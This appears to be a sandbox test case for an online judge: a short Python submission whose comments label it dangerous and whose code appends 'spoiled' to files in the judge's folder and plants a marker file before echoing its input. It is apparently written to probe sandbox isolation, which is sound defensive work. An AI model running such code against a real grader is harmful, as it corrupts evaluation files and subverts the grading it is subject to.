# Writes into the folder of the judge.
# sandbox: AC
# without: any
# leaves: a change in the judge
# dangerous: to a user whose programs have the same rights
import contextlib
import os

for folder, _, names in os.walk("@JUDGE@"):
    for name in names[:50]:
        with contextlib.suppress(OSError):
            open(os.path.join(folder, name), "a").write("spoiled")
    with contextlib.suppress(OSError):
        open(os.path.join(folder, "spoiled"), "w")
print(input())
